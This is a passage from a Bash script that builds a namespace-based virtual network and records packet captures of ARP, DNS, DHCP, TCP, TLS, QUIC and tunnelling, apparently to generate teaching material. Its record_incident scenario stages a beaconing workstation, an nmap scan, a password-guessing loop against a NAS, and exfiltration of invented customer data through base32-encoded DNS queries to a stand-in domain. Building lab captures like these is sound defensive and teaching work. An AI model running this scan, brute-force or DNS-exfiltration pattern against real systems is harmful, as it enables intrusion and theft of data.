	hop gw wan0 203.0.113.7/24 r1 lan 203.0.113.1/24
	hop r1 far 10.20.0.1/30 r2 near 10.20.0.2/30 "*,delay=4ms"
	hop r2 far 10.30.0.1/30 r3 near 10.30.0.2/30 "*,delay=13ms" 1400
	hop r3 far 198.51.100.1/24 server eth0 198.51.100.20/24
	on gw ip link set wan0 address 28:80:88:27:6b:a8
	on r1 ip link set lan address 00:1b:54:0c:77:21
	on gw ip route add default via 203.0.113.1
	on r1 ip route add default via 10.20.0.2
	on r2 ip route add 203.0.113.0/24 via 10.20.0.1
	on r2 ip route add default via 10.30.0.2
	on r3 ip route add default via 10.30.0.1
	on server ip route add default via 198.51.100.1
	on r1 nft -f - <<<'table ip quiet { chain out { type filter hook output priority 0; icmp type time-exceeded drop; }; }'
	on gw sysctl -q -w net.bridge.bridge-nf-call-iptables=0 # or fragments that cross the bridge are put together
	on gw nft -f - <<<'table ip nat { chain post { type nat hook postrouting priority srcnat; oifname "wan0" masquerade; }; }'

	# A cabin in the garden has an address of the LAN and a cable of its own: the router answers for it (proxy ARP).
	space cabin
	cable cabin eth0 gw garden
	on cabin ip addr add 192.168.7.200/32 dev eth0
	on cabin ip link set eth0 up
	on gw ip link set garden up
	on cabin ip route add 192.168.7.1 dev eth0
	on cabin ip route add default via 192.168.7.1
	on gw ip route add 192.168.7.200 dev garden
	on gw sysctl -q -w net.ipv4.conf.br-lan.proxy_arp=1 net.ipv4.neigh.br-lan.proxy_delay=0

	site www.example.org index.html 21840 photo.raw 160000 film.raw 120000
	mkdir -p "$work/got"
	certificate www.example.org
	local web_host=server web_root=www.example.org
	web
	sleep 1
	capture gw br-lan inside.pcap
	capture gw wan0 outside.pcap

	# Neighbours: one that answers, one that is not there, one for whom the router answers.
	on laptop ping -q -c 2 -i 0.4 192.168.7.30 >/dev/null
	sleep 0.5
	on laptop ping -q -c 2 -i 0.4 -W 1 192.168.7.99 >/dev/null || true
	sleep 0.5
	on laptop ping -q -c 2 -i 0.4 192.168.7.200 >/dev/null
	sleep 1
	# The phone comes in: is its address free? Then it tells everybody.
	on phone arping -q -D -c 2 -w 2 -I eth0 192.168.7.24 || true
	address phone 192.168.7.24/24
	on phone arping -q -A -c 1 -I eth0 192.168.7.24
	sleep 0.5
	# More than a frame can hold.
	on laptop ping -q -c 2 -i 0.4 -s 4000 192.168.7.30 >/dev/null
	sleep 0.5
	# The way to the server, hop by hop.
	on laptop traceroute -n -q 3 -N 1 -w 0.6 198.51.100.20 >"$work/log.traceroute"
	sleep 0.5
	# Both talk to the same server, by chance from the same port; the laptop has much to say.
	fetch laptop --local-port 50000 --limit-rate 70k -H "Expect:" -T "$work/www/www.example.org/photo.raw" \
		http://198.51.100.20/kept/photo.raw &
	local photo=$!
	sleep 0.7
	fetch phone --local-port 50000 http://198.51.100.20/film.raw
	wait "$photo"
	on phone ping -q -c 2 -i 0.4 198.51.100.20 >/dev/null
	sleep 0.7
	stop inside.pcap
	stop outside.pcap
}

record_flows() {
	lan_ip=192.168.9.1/24 gw_mac=28:80:88:27:6b:a7 mbit=3
	local ports="listen 8001; listen 8002; listen 8003; listen 8004; listen 8005; listen 8006;"
	rules=(
		"8001,delay=25ms,queue=15000"
		"8002,delay=25ms,queue=1000000"
		"8003,delay=200ms,queue=1000000"
		"8004,delay=200ms,queue=1000000"
		"8005,delay=25ms,queue=20000"
		"8006,delay=25ms,queue=20000"
		"*,delay=8ms")
	: >"$work/gw.conf"
	lan
	host laptop 3c:15:c2:d9:d3:50
	address laptop 192.168.9.20/24
	certificate cloud.example.net
	site cloud.example.net photos.raw 700000 song.raw 120000 film.raw 450000 first.raw 700000 second.raw 400000
	local web_root=cloud.example.net dir=$work/www/cloud.example.net cloud=http://203.0.113.80
	web 203.0.113.80
	sleep 1
	mkdir -p "$work/got"
	capture laptop eth0 flows.pcap
	# Alone on the wire.
	fetch laptop -H "Expect:" -T "$dir/photos.raw" "$cloud:8001/kept/photos.raw"
	sleep 0.7
	# A reader that is slower than the wire, with little room.
	local room; room=$(on laptop sysctl -n net.ipv4.tcp_rmem)
	on laptop sysctl -q -w net.ipv4.tcp_rmem="4096 20000 20000"
	fetch laptop --limit-rate 50k "$cloud:8002/song.raw"
	on laptop sysctl -q -w net.ipv4.tcp_rmem="$room"
	sleep 0.7
	# Far away: without window scaling, and with it.
	on laptop sysctl -q -w net.ipv4.tcp_window_scaling=0
	fetch laptop "$cloud:8003/film.raw"
	on laptop sysctl -q -w net.ipv4.tcp_window_scaling=1
	sleep 0.7
	fetch laptop "$cloud:8004/film.raw"
	sleep 0.7
	# Two at once, the second one later.
	fetch laptop -H "Expect:" -T "$dir/first.raw" "$cloud:8005/kept/first.raw" &
	local first=$!
	sleep 0.6
	fetch laptop -H "Expect:" -T "$dir/second.raw" "$cloud:8006/kept/second.raw"
	wait "$first"
	sleep 0.5
	stop flows.pcap
}

# record_names: a home whose router looks names up itself, from the root on
record_names() {
	lan_ip=192.168.3.1/24 gw_mac=28:80:88:27:6b:a7
	rules=("192.0.2.4/32,delay=20ms" "192.0.2.53/32,delay=9ms" "198.51.100.0/24,delay=13ms" "203.0.113.0/24,delay=31ms" "*,delay=5ms")
	cat >"$work/gw.conf" <<END
port=0
dhcp-range=192.168.3.100,192.168.3.149,2h
dhcp-authoritative
dhcp-host=3c:15:c2:d9:d3:50,laptop,192.168.3.20
dhcp-option=option:dns-server,192.168.3.1
END
	lan; lease_script
	host laptop 3c:15:c2:d9:d3:50
	host phone a4:77:33:2f:e0:6e
	host printer 3c:d9:2b:74:1e:0d
	host camera 18:b4:30:5a:e4:17
	address printer 192.168.3.9/24
	address camera 192.168.3.12/24
	local h ip
	for ip in 192.0.2.4 192.0.2.53 203.0.113.53; do on inet ip addr add "$ip/32" dev lo; done
	on gw dnsmasq -k -C "$work/gw.conf" --pid-file= -u root --no-resolv --no-hosts --interface=br-lan --bind-dynamic \
		--domain=home.arpa --dhcp-leasefile="$work/leases" >"$work/log.dnsmasq" 2>&1 &

	# The name servers of the root, of org and net, and of two owners of names; each zone as its server has it.
	local soa='@ SOA ns.example.org. admin.example.org. 1 3600 900 604800 300'
	cat >"$work/zone.root" <<END
\$TTL 86400
$soa
@ NS root-server.
root-server. A 192.0.2.4
org. NS a.nic.org.
a.nic.org. A 192.0.2.53
net. NS a.nic.net.
a.nic.net. A 192.0.2.53
100.51.198.in-addr.arpa. NS ns.example.org.
ns.example.org. A 198.51.100.53
END
	printf '$TTL 86400\n%s\n@ NS a.nic\na.nic A 192.0.2.53\nexample NS ns.example\nns.example A 198.51.100.53\n' "$soa" >"$work/zone.org"
	printf '$TTL 86400\n%s\n@ NS a.nic\na.nic A 192.0.2.53\nexample NS ns.example\nns.example A 203.0.113.53\n' "$soa" >"$work/zone.net"
	cat >"$work/zone.example.org" <<END
\$TTL 3600
$soa
@ NS ns
@ MX 10 mail
@ TXT "v=spf1 mx -all"
ns A 198.51.100.53
www A 198.51.100.20
static A 198.51.100.21
mail A 198.51.100.25
blog CNAME pages.example.net.
clock 5 A 198.51.100.123
END
	local i
	for i in {1..14}; do printf 'many TXT "Line %d of a text that does not fit into one small datagram."\n' "$i"; done >>"$work/zone.example.org"
	printf '$TTL 600\n%s\n@ NS ns\nns A 203.0.113.53\npages A 203.0.113.40\nnews A 203.0.113.41\n' "$soa" >"$work/zone.example.net"
	printf '$TTL 3600\n%s\n@ NS ns.example.org.\n20 PTR www.example.org.\n' "$soa" >"$work/zone.reverse"
	view() { # NAME ADDRESS ZONE FILE...
		printf 'view "%s" { match-destinations { %s; }; recursion no;\n' "$1" "$2"
		shift 2
		while (($#)); do printf 'zone "%s" { type master; file "%s/zone.%s"; };\n' "$1" "$work" "$2"; shift 2; done
		printf '};\n'
	}
	{
		printf 'options { directory "%s"; pid-file none; session-keyfile none; listen-on { any; }; dnssec-validation no; minimal-responses no; };\ncontrols { };\n' "$work"
		view root 192.0.2.4 . root
		view tld 192.0.2.53 org org net net
		view org 198.51.100.53 example.org example.org 100.51.198.in-addr.arpa reverse
		view net 203.0.113.53 example.net example.net
	} >"$work/named.conf"
	bg inet named -g -u root -c "$work/named.conf"

	# The router's resolver, which knows the root's address and nothing else.
	printf '. 3600000 NS root-server.\nroot-server. 3600000 A 192.0.2.4\n' >"$work/hints"
	cat >"$work/unbound.conf" <<END
server:
	interface: 192.168.3.1
	access-control: 192.168.3.0/24 allow
	outgoing-interface: 10.255.0.1
	do-daemonize: no
	username: ""
	chroot: ""
	pidfile: ""
	directory: "$work"
	use-syslog: no
	root-hints: "$work/hints"
	module-config: "iterator"
	do-ip6: no
	target-fetch-policy: "0 0 0 0 0"
	local-zone: "100.51.198.in-addr.arpa." nodefault
	local-zone: "home.arpa." static
	local-data: "router.home.arpa. A 192.168.3.1"
	max-udp-size: 4096
remote-control:
	control-enable: no
END
	on gw unbound -d -c "$work/unbound.conf" >"$work/log.unbound" 2>&1 &
	sleep 2
	capture gw br-lan names.pcap
	capture gw wan0 resolver.pcap

	# The laptop is switched on; the phone comes from another network and asks for the address it had there.
	join_as laptop 9
	sleep 0.8
	cat >"$work/dhcp.phone.leases" <<END
lease {
  interface "eth0";
  fixed-address 10.44.0.57;
  option subnet-mask 255.255.255.0;
  option dhcp-lease-time 86400;
  option dhcp-message-type 5;
  renew 3 2035/12/01 12:00:00;
  rebind 3 2035/12/01 12:00:00;
  expire 3 2035/12/01 12:00:00;
}
END
	join_as phone 3000
	sleep 0.6
	ask() { on "$1" dig +tries=1 +time=5 +nocookie @192.168.3.1 "${@:2}" >/dev/null; sleep 0.5; }
	# From the root on; then the same from the cache, a neighbour of it, an alias in another domain, names that do not exist.
	ask laptop www.example.org
	ask phone www.example.org
	ask laptop static.example.org
	ask laptop blog.example.org
	ask phone news.example.net
	ask laptop nosuch.example.org
	ask phone nosuch.example.org
	ask laptop -x 198.51.100.20
	ask laptop MX example.org
	# Too large for UDP without EDNS: truncated, and asked again over TCP.
	on laptop dig +tries=1 +time=5 +noedns @192.168.3.1 TXT many.example.org >/dev/null
	sleep 0.7
	# Printer and camera are switched on; they announce themselves while a name that holds for five seconds is asked for again and again.
	bonjour printer "Office printer" _ipp._tcp 631 "ty=Laser 400"
	sleep 0.4
	bonjour camera "Door" _http._tcp 80 "path=/"
	for i in {1..20}; do on phone dig +tries=1 +time=5 +nocookie @192.168.3.1 clock.example.org >/dev/null; sleep 0.75; done
	# The laptop looks for them.
	bonjour laptop
	sleep 2.5
	on laptop sh -c "DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus timeout 4 avahi-browse -r -t _ipp._tcp" >"$work/log.browse" 2>&1 || true
	sleep 0.5
	on laptop sh -c "DBUS_SYSTEM_BUS_ADDRESS=unix:path=$work/avahi.laptop.bus timeout 4 avahi-resolve -4 -n camera.local" >"$work/log.resolve" 2>&1 || true
	sleep 1
	on laptop kill "$(<"$work/dhcp.laptop.pid")" 2>/dev/null || true
	on laptop dhclient -r -q -sf "$work/lease.sh" -cf "$work/dhcp.laptop.conf" -lf "$work/dhcp.laptop.leases" -pf "$work/dhcp.laptop.pid" eth0 >/dev/null 2>&1 || true
	sleep 1
	stop names.pcap
	stop resolver.pcap
}

# join_as HOST SECONDS: by DHCP, and ask again after that many seconds
join_as() {
	on "$1" ip link set eth0 up
	cat >"$work/dhcp.$1.conf" <<END
send host-name "$1";
request subnet-mask, routers, domain-name, domain-name-servers;
supersede dhcp-renewal-time $2;
END
	on "$1" dhclient -4 -1 -q -sf "$work/lease.sh" -cf "$work/dhcp.$1.conf" -lf "$work/dhcp.$1.leases" \
		-pf "$work/dhcp.$1.pid" eth0 >"$work/log.dhclient.$1" 2>&1
}

# record_browse: the same pages over HTTP, TLS and QUIC
record_browse() {
	lan_ip=192.168.5.1/24 gw_mac=28:80:88:27:6b:a7 mbit=20
	rules=("198.51.100.0/24,delay=20ms" "*,delay=4ms")
	: >"$work/gw.conf"
	lan
	host laptop 3c:15:c2:d9:d3:50
	address laptop 192.168.5.20/24
	local page=$work/www/www.example.org
	site www.example.org index.html 21840 style.css 4210 app.js 9877 menu.js 5604 print.css 7310 news.txt 3977 about.html 9120
	# A certificate that has expired, and one of nobody that the laptop trusts.
	certificate old.example.org
	(cd "$work" && openssl req -newkey rsa:2048 -nodes -keyout old.key -out old.csr -subj "/CN=old.example.org" 2>/dev/null
		openssl ca -config <(ca_config) -batch -notext -in old.csr -out old.leaf -startdate 20240101000000Z -enddate 20250101000000Z 2>/dev/null
		cat old.leaf sub.crt >old.crt
		openssl req -x509 -newkey rsa:2048 -nodes -keyout self.key -out self.crt -days 365 -subj "/CN=self.example.org" \
			-addext "subjectAltName=DNS:self.example.org" 2>/dev/null)
	certificate www.example.org example.org
	local web_server='keepalive_timeout 20; gzip on; gzip_types text/css text/javascript; gzip_min_length 200; add_header Alt-Svc "h3=\":443\"; ma=86400";
		location = /start { return 301 /index.html; }
		location ~ \.(css|js|txt)$ { add_header Cache-Control "max-age=600"; }'
	local web_more="server { listen 198.51.100.40:443 ssl; ssl_certificate $work/old.crt; ssl_certificate_key $work/old.key; ssl_protocols TLSv1.2; root $page; }
	server { listen 198.51.100.41:443 ssl; ssl_certificate $work/self.crt; ssl_certificate_key $work/self.key; ssl_protocols TLSv1.2; root $page; }"
	for ip in 198.51.100.40 198.51.100.41; do on inet ip addr add "$ip/32" dev lo; done
	web 198.51.100.20
	names "${home_names[@]}" --host-record=old.example.org,198.51.100.40 --host-record=self.example.org,198.51.100.41
	(cd "$here/h3" && go build -o "$work/h3" .)
	QUIC_GO_DISABLE_CLIENTHELLO_SCRAMBLING=true bg inet "$work/h3" serve "$page" "$work/server.crt" "$work/server.key" 198.51.100.20:443
	sleep 1
	mkdir -p "$work/got"
	local files=(index.html style.css app.js menu.js print.css news.txt) f url=http://www.example.org
	capture laptop eth0 browse.pcap

	# Six files: a connection for each, then one for all, then three at once.
	for f in "${files[@]}"; do fetch laptop --http1.0 "$url/$f"; done
	sleep 1
	fetch laptop "$url/{index.html,style.css,app.js,menu.js,print.css,news.txt}"
	sleep 1
	fetch laptop --parallel --parallel-immediate --parallel-max 3 "$url/{index.html,style.css,app.js,menu.js,print.css,news.txt}"
	sleep 1
	# Once more, from memory: not modified; then the page has changed. Packed; moved; not there.
	fetch laptop --etag-save "$work/etag" "$url/about.html"
	sleep 0.4
	fetch laptop --etag-compare "$work/etag" "$url/about.html"
	sleep 0.4
	text 9410 >"$page/about.html"
	fetch laptop --etag-compare "$work/etag" "$url/about.html"
	sleep 0.4
	fetch laptop --compressed "$url/style.css"
	fetch laptop -L "$url/start"
	fetch laptop "$url/gone.html"
	sleep 1
	# TLS 1.2, TLS 1.3, TLS 1.3 once more in a new connection that knows the first; two certificates that are refused.
	fetch laptop --http1.1 --tls-max 1.2 https://www.example.org/index.html
	sleep 0.7
	fetch laptop --http1.1 -H "Connection: close" https://www.example.org/{index.html,index.html}
	sleep 0.7
	fetch laptop https://old.example.org/index.html 2>/dev/null || true
	fetch laptop https://self.example.org/index.html 2>/dev/null || true
	sleep 0.7
	# QUIC, and QUIC once more.
	QUIC_GO_DISABLE_CLIENTHELLO_SCRAMBLING=true on laptop "$work/h3" get "$work/ca.crt" https://www.example.org/{,style.css,app.js,menu.js,print.css,news.txt}
	sleep 0.5
	stop browse.pcap
}

# ca_config: openssl's, to sign with dates of one's own
ca_config() {
	: >"$work/ca.index"; echo 1000 >"$work/ca.serial"
	cat <<END
[ca]
default_ca = netlab
[netlab]
database = $work/ca.index
serial = $work/ca.serial
new_certs_dir = $work
certificate = $work/sub.crt
private_key = $work/sub.key
default_md = sha256
policy = any
x509_extensions = names
[any]
commonName = supplied
[names]
subjectAltName = DNS:old.example.org
END
}

# record_incident: an office day with a machine in it that works for somebody else
record_incident() {
	lan_ip=192.168.30.1/24 gw_mac=00:1b:54:0c:77:21 mbit=16
	rules=("198.51.100.0/24,delay=9ms" "203.0.113.0/24,delay=34ms" "*,delay=5ms")
	: >"$work/gw.conf"
	lan
	host ws1 d4:be:d9:3f:21:11
	host ws2 d4:be:d9:3f:2c:12
	host ws3 f0:18:98:44:d7:13
	host nas 00:11:32:8b:46:f0
	host printer 3c:d9:2b:74:1e:0d
	address ws1 192.168.30.21/24
	address ws2 192.168.30.22/24
	address ws3 192.168.30.23/24
	address nas 192.168.30.10/24
	address printer 192.168.30.9/24
	certificate www.example.org news.example.net cdn.example.net static.example.org
	site www.example.org index.html 21840 rates.html 12600
	site news.example.net index.html 26300 front.jpg 31800
	site cdn.example.net poll 48 task 220
	site static.example.org style.css 14210 logo.png 5604
	web 198.51.100.20 198.51.100.21 198.51.100.30 203.0.113.44
	names "${home_names[@]}" --host-record=cdn.example.net,203.0.113.44 --local=/example.com/ \
		--txt-record=example.com,ok --address=/t.example.com/203.0.113.99
	# The disk of the office: files behind a password, and other services.
	mkdir -p "$work/nas/files"
	customers >"$work/nas/files/customers.csv"
	text 700 >"$work/nas/files/list.txt"
	printf 'admin:%s\n' "$(openssl passwd -apr1 summer2024)" >"$work/nas.passwd"
	cat >"$work/nas.conf" <<END
daemon off; worker_processes 1; pid $work/nas.pid; error_log $work/nas.log; user root;
events { worker_connections 64; }
http { access_log off; server_tokens off;
	client_body_temp_path $work/n1; proxy_temp_path $work/n2; fastcgi_temp_path $work/n3; uwsgi_temp_path $work/n4; scgi_temp_path $work/n5;
	server { listen 192.168.30.10:80; listen 192.168.30.10:445; root $work/nas; default_type text/csv;
		location /files { autoindex on; auth_basic "files"; auth_basic_user_file $work/nas.passwd; } } }
END
	bg nas nginx -c "$work/nas.conf"
	on nas nc -l -k 192.168.30.10 22 </dev/null >/dev/null 2>&1 &
	on nas nc -l -k 192.168.30.10 3306 </dev/null >/dev/null 2>&1 &
	sleep 1
	mkdir -p "$work/got"
	capture gw br-lan incident.pcap

	# The office works, all the time.
	{
		for _ in 1 2 3; do
			fetch ws1 "https://news.example.net/{index.html,front.jpg}"; sleep 3.1
			fetch ws3 https://www.example.org/rates.html; sleep 4.3
			on ws3 ping -q -c 2 -i 0.4 192.168.30.10 >/dev/null
			fetch ws2 https://www.example.org/index.html; sleep 5.6
			fetch ws1 -u admin:summer2024 http://192.168.30.10/files/list.txt; sleep 2.7
			fetch ws3 "https://static.example.org/{style.css,logo.png}"; sleep 4.9
		done
	} &
	local office=$!
	# Workstation 2 asks somebody every four seconds or so whether there is something to do.
	{
		local wait
		for wait in 3.9 4.1 4.0 3.8 4.2 4.0 4.1 8.1 3.9 4.0 4.2 3.9 4.1 4.0 3.8; do
			fetch ws2 -A "updater/1.0" https://cdn.example.net/poll; sleep "$wait"
		done
	} &
	local beacon=$!
	sleep 9
	# There is: who is here, and what has the disk to offer?
	on ws2 nmap -n -sn -T4 192.168.30.1-40 >"$work/log.nmap1" 2>&1
	sleep 1.5
	on ws2 nmap -n -Pn -sS -T4 --max-retries 1 -F 192.168.30.10 >"$work/log.nmap2" 2>&1
	sleep 2.5
	# Passwords, one after the other; then the file.
	local word
	for word in admin password 123456 12345678 qwerty letmein welcome office nas synology test root default admin123 secret changeme \
		winter2023 spring2024 monday dragon summer2023 summer2024; do
		on ws2 curl -s -o /dev/null -A "Mozilla/5.0 (netlab)" -u "admin:$word" http://192.168.30.10/files/ || true
		sleep 0.12
	done
	sleep 1.2
	on ws2 curl -s -A "Mozilla/5.0 (netlab)" -u admin:summer2024 -o "$work/got/customers.csv" http://192.168.30.10/files/customers.csv
	sleep 3
	# Out it goes, in the names of hosts that nobody has: 30 bytes a label, two labels a name.
	local n=0 line
	gzip -n -9 -c "$work/got/customers.csv" >"$work/loot.gz"
	base32 -w 96 "$work/loot.gz" | tr A-Z= a-z8 | while read -r line; do
		[[ ${#line} -le 48 ]] || line=${line:0:48}.${line:48}
		on ws2 dig +short +tries=1 +time=3 +nocookie "$n.$line.t.example.com" >/dev/null
		n=$((n + 1)); sleep 0.14
	done
	wait "$beacon" "$office"
	sleep 0.5
	stop incident.pcap
}

# customers: a list of invented people
customers() {
	awk 'BEGIN {
		srand(7); print "number,name,street,town,balance"
		split("Ada Ben Cleo Dora Emil Finn Greta Hugo Ida Jan Kira Leo", first); split("Abel Brook Cole Dane Ester Frey Gold Hart Iver Jost", last)
		split("Mill Lane,High Street,Station Road,Park Row,Church Walk", street, ","); split("Northam,Easton,Southby,Westwick", town, ",")
		for (i = 1; i <= 300; i++) printf "%d,%s %s,%s %d,%s,%d.%02d\n", 1000 + i, first[1 + int(rand() * 12)], last[1 + int(rand() * 10)], \
			street[1 + int(rand() * 5)], 1 + int(rand() * 90), town[1 + int(rand() * 4)], rand() * 900, rand() * 100
	}'
}

# record_odd: link layers and packets that only teach decoders
record_odd() {
	lan_ip=192.168.1.1/24 gw_mac=28:80:88:27:6b:a7 rules=("*,delay=6ms")
	: >"$work/gw.conf"
	lan; lan6
	host laptop 3c:15:c2:d9:d3:50
	host nas 00:11:32:8b:46:f0
	address laptop 192.168.1.23/24
	address nas 192.168.1.10/24
	local h
	for h in laptop nas; do on "$h" sysctl -q -w net.ipv6.conf.eth0.disable_ipv6=0 net.ipv6.conf.eth0.accept_ra=0; done
	on laptop ip addr add 2001:db8:1::23/64 dev eth0 nodad
	on laptop ip route add default via 2001:db8:1::1
	on nas ip addr add 2001:db8:1::10/64 dev eth0 nodad
	certificate www.example.org
	site www.example.org index.html 3100
	web 198.51.100.20
	on inet ip addr add 2001:db8:ffff::20/128 dev lo nodad
	names "${home_names[@]}"
	sleep 2.5
	mkdir -p "$work/got"

	capture gw any any-sll2.pcap -y LINUX_SLL2
	fetch laptop http://www.example.org/index.html
	stop any-sll2.pcap
	capture gw any any-sll.pcap -y LINUX_SLL
	fetch laptop http://www.example.org/index.html
	stop any-sll.pcap

	capture nas lo loopback.pcap
	bg nas "$rig" serve 127.0.0.1:8080
	sleep 0.3
	fetch nas http://127.0.0.1:8080/index.html
	stop loopback.pcap

	capture laptop eth0 fragments.pcap "icmp or icmp6 or ip6[6] = 44 or ip[6:2] & 0x1fff != 0"
	on laptop ping -q -c 2 -i 0.3 -s 4000 192.168.1.10 >/dev/null
	on laptop ping -q -c 2 -i 0.3 -s 4000 2001:db8:1::10 >/dev/null
	stop fragments.pcap

	on gw ip -6 route add unreachable 2001:db8:ffff::99
	capture laptop eth0 unreachable.pcap "not ip6 or icmp6"
	on laptop dig +time=1 +tries=1 @192.168.1.10 nas.home.arpa >/dev/null || true
	on laptop ping -q -c 1 -W 1 -t 1 198.51.100.20 >/dev/null || true
	on laptop ping -q -c 1 -W 4 10.1.2.3 >/dev/null || true
	on laptop ping -q -c 1 -W 1 2001:db8:ffff::99 >/dev/null || true
	fetch laptop http://192.168.1.10:81/nothing 2>/dev/null || true
	stop unreachable.pcap

	for h in laptop nas; do
		local mine=23 other=10
		[[ $h == laptop ]] || { mine=10; other=23; }
		on "$h" ip link add vx0 address "02:00:00:00:00:$mine" type vxlan id 42 local "192.168.1.$mine" remote "192.168.1.$other" dstport 4789 dev eth0
		plain "$h" vx0
		on "$h" ip addr add "10.42.0.$mine/24" dev vx0
		on "$h" ip link set vx0 up
	done
	capture laptop eth0 vxlan.pcap udp port 4789
	on laptop ping -q -c 2 -i 0.3 10.42.0.10 >/dev/null
	bg nas "$rig" serve 10.42.0.10:80
	sleep 0.3
	on laptop "$rig" get 10.42.0.10:80
	stop vxlan.pcap

	for h in laptop nas; do on "$h" ip tuntap add dev tun0 mode tun; done
	"$rig" tunnel "$prefix-laptop" tun0 "$prefix-nas" tun0 &
	on laptop ip addr add 10.43.0.23/24 dev tun0
	on nas ip addr add 10.43.0.10/24 dev tun0
	for h in laptop nas; do on "$h" sysctl -q -w net.ipv6.conf.tun0.disable_ipv6=0; on "$h" ip link set tun0 up; done
	on laptop ip addr add 2001:db8:43::23/64 dev tun0 nodad
	on nas ip addr add 2001:db8:43::10/64 dev tun0 nodad
	sleep 2.5
	capture laptop tun0 tun-rawip.pcap
	on laptop ping -q -c 1 10.43.0.10 >/dev/null
	on laptop ping -q -c 1 2001:db8:43::10 >/dev/null
	bg nas "$rig" serve 10.43.0.10:80
	sleep 0.3
	on laptop "$rig" get 10.43.0.10:80
	stop tun-rawip.pcap
}

[[ $(id -u) == 0 ]] || die "must run as root"
[[ -d $out ]] || die "no folder $out"
need ip iproute2 nft nftables traceroute traceroute arping iputils-arping ethtool ethtool tcpdump tcpdump dnsmasq dnsmasq-base nginx nginx-light curl curl openssl openssl \
	dhclient isc-dhcp-client avahi-daemon avahi-daemon avahi-browse avahi-utils dbus-daemon dbus-daemon \
	chronyd chrony nc netcat-openbsd logger bsdutils hostname hostname ssh openssh-client dropbear dropbear-bin unshare util-linux \
	named bind9 unbound unbound nmap nmap dig bind9-dnsutils ping iputils-ping pkill procps go golang-go
[[ -z $(ip netns list | awk -v p="^$prefix-" '$1 ~ p') ]] || die "another run is under way (ip netns list)"
(cd "$here" && go build -o "$rig" ./rig)

(($#)) || set -- ten web morning bulk exfil leak path flows names browse incident odd
for name; do
	declare -F "record_$name" >/dev/null || die "no capture $name"
	# A shell of its own, so that no setting of one recording reaches the next.
	(guard; "record_$name") &
	recording=$!
	trap 'kill $recording; wait $recording; exit 130' INT TERM
	wait $recording
done
